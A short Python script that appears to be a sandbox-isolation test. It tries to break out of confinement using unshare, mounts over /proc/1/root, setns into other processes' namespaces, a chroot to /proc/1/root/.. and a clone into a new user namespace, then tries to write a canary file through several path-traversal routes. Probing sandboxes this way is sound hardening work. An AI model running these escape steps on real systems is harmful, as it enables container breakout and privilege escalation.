"""Tries mounts, new user namespaces, other processes' namespaces, chroot and clone, to get out or to get rights."""

# %% own
import contextlib, ctypes, glob, os

libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.mount(b"/proc/1/root", b"/mnt", None, 4096, None)
for path in glob.glob("/proc/*/ns/*"):
    with contextlib.suppress(OSError):
        libc.setns(os.open(path, os.O_RDONLY), 0)
libc.chroot(b"/proc/1/root/..")
child = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
if child == 0:
    os._exit(0)
for path in (CANARY, f"/proc/1/root{CANARY}", f"/proc/self/root/..{CANARY}", "/../../.." + CANARY):
    with contextlib.suppress(OSError):
        open(path, "w").write("outside")
